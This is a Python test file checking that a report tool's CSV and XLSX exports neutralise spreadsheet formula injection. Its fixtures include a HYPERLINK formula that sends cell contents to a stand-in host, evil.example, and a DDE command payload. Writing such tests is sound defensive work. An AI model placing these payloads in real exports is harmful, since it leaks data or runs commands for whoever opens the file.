"""Text that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.spreadsheets import csv_cell, runs_as_formula
from commands.report.csv_document import as_csv
from commands.report.figures import Rules
from commands.report.notes import Narrative
from commands.report.xlsx import as_xlsx
from tests.unit.test_report_figures import area, report

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the plan")'


@pytest.mark.parametrize(
    "text",
    [LINK, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1", "-cmd|' /C calc'!A0"],
)
def test_formula_like_text_gets_an_apostrophe_in_csv(text: str) -> None:
    assert runs_as_formula(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3", "+4.5", "-0.5", "12%", "Ring the GP", "", 7, None, -2])
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    assert csv_cell(value) == value


@given(st.text())
def test_any_text_is_kept_whole_and_never_starts_a_formula(text: str) -> None:
    written = csv_cell(text)
    assert written in (text, "'" + text)
    assert not runs_as_formula(written)


def test_the_report_csv_and_xlsx_show_formula_text_as_text() -> None:
    """A keyworker whose directory name is a formula, a register named like
    one, and a narrative that starts like one."""
    data = area()
    people = tuple(
        dataclasses.replace(p, name=LINK) if p.name == "Sol Byrne" else p for p in data.people
    )
    r = report(
        dataclasses.replace(data, register="=" + LINK, people=people),
        rules=Rules(workforce_names="names"),
    )
    notes = Narrative(successes=("=1+1 keyworkers joined", "Ordinary text"))
    rows = list(csv.DictReader(io.StringIO(as_csv(r, notes))))
    [register] = [row for row in rows if row["row"] == "register"]
    assert register["value"] == "'=" + LINK
    names = [row["value"] for row in rows if (row["table"], row["column"]) == ("workforce", "Name")]
    assert "'" + LINK in names
    assert {
        "table": "successes",
        "row": "1",
        "column": "text",
        "value": "'=1+1 keyworkers joined",
    } in (rows)

    workbook = load_workbook(io.BytesIO(as_xlsx(r, notes)))
    cells = [c for s in workbook.worksheets for row in s.iter_rows() for c in row]
    linked = [
        c
        for c in cells
        if isinstance(c.value, str) and ("HYPERLINK" in c.value or "=1+1" in c.value)
    ]
    assert linked, "the register's name, the keyworker and the narrative are in the workbook"
    assert any(runs_as_formula(c.value) for c in linked)
    for cell in linked:
        assert cell.data_type == "s"  # text, not a formula ("f")
        assert cell.quotePrefix or not runs_as_formula(cell.value)
